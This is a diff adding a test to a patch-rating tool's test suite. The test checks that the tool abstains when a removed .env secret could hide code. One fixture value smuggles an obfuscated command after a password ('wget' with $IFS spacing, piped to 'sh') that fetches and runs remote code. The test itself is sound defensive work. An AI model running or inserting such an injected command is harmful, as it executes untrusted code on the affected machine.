@@ -290,6 +290,22 @@ describe('The chat rater', () => {
     assert.ok(rating?.evidence.some(({ id, value }) => id === 'secrets-removed' && value >= 6));
   });
 
+  it('keeps the door shut where what it removed as a secret could be code', async () => {
+    script = () => says({ label: 'CORRECT_AND_PRECISE', confidence: 0.99 });
+    for (const [line, outcome] of [
+      ['DB_PASSWORD=qwe8Zr;wget$IFS-qO-$IFS//host|sh', 'abstain'],
+      ['DB_PASSWORD=qwe8Zr', 'proceed'],
+    ] as const) {
+      const more = Array.from({ length: 30 }, (_, i) => `+PORT_${i}=80${i}\n`).join('');
+      const text = `--- a/.env\n+++ b/.env\n@@ -1 +1,32 @@\n A=1\n+${line}\n${more}`;
+      const { decision, rating } = await judgePatch({ text, source: 'x' }, chatOptions(server.url).options);
+      assert.equal(decision.outcome, outcome, decision.because);
+      assert.ok((rating?.coverage.share ?? 1) < 1);
+      if (outcome === 'abstain')
+        assert.match(decision.because, /\.env:2 could be code, which nobody reviewed/);
+    }
+  });
+
   it('shows what would be sent without sending it, and the text stands between marks that change', async () => {
     const { rater } = chatOptions(server.url);
     const input = await given('output', patch, {});
